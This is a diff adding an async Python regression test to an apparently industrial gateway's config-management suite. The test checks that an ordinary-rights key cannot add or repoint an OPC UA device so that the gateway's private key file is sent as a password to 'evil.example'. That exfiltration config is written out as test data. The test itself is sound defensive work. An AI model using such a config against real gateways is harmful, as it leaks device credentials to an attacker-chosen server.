@@ -475,6 +475,54 @@ async def test_a_failover_uplink_is_not_redirected_without_the_uplink_right(
         assert (etc / "config.toml").read_text() == on_servers
 
 
+HISTORIAN = """
+[[devices]]
+name = "historian"
+kind = "opcua"
+endpoint = "{endpoint}"
+username = "gw-01"
+password = {{ file = "{secret}" }}
+[[devices.tags]]
+name = "flow"
+node = "ns=2;s=flow"
+"""
+
+
+async def test_no_device_carries_a_gateway_secret_to_a_server_without_the_security_right(
+    managed: tuple[Centre, Path], tmp_path: Path
+) -> None:
+    """The device key (0600, the agent's) passes the secret file check: an OPC UA device added by
+    a key with only config_update sent it as its password to a server of that key's choosing."""
+    c, etc = managed
+    device_key = tmp_path / "state" / "identity" / "current" / "key.pem"
+    device_key.parent.mkdir(parents=True)
+    device_key.write_text("-----BEGIN PRIVATE KEY-----\n")
+    os.chmod(device_key, 0o600)
+    before = (etc / "config.toml").read_text()
+
+    async def update(text: str, key: str = "ops") -> dict[str, Any]:
+        return await c.send(
+            "config_update", c.sign("config_update", {"config": text, "restart": False}, key=key)
+        )
+
+    exfiltrate = before + HISTORIAN.format(endpoint="opc.tcp://evil.example:4840", secret=device_key)
+    refused = await update(exfiltrate)
+    assert refused["status"] == "refused", refused
+    assert "devices (historian: a secret reference) (needs the 'security' right)" in refused["reason"]
+    assert (etc / "config.toml").read_text() == before
+
+    # An administrator adds a device that reads its password from a file ...
+    ours = before + HISTORIAN.format(endpoint="opc.tcp://10.1.0.30:4840", secret=device_key)
+    assert (await update(ours, key="admin"))["status"] == "ok"
+    # ... which an ordinary key may then neither point elsewhere ...
+    moved = ours.replace("opc.tcp://10.1.0.30:4840", "opc.tcp://evil.example:4840")
+    assert (await update(moved))["status"] == "refused"
+    # ... nor find in the way of an ordinary change.
+    assert (await update(ours.replace("flush_interval_ms = 200", "flush_interval_ms = 500")))[
+        "status"
+    ] == "ok"
+
+
 async def test_an_ordinary_config_change_lands_in_the_managed_file(managed: tuple[Centre, Path]) -> None:
     c, etc = managed
     new = (etc / "config.toml").read_text().replace("flush_interval_ms = 200", "flush_interval_ms = 500")
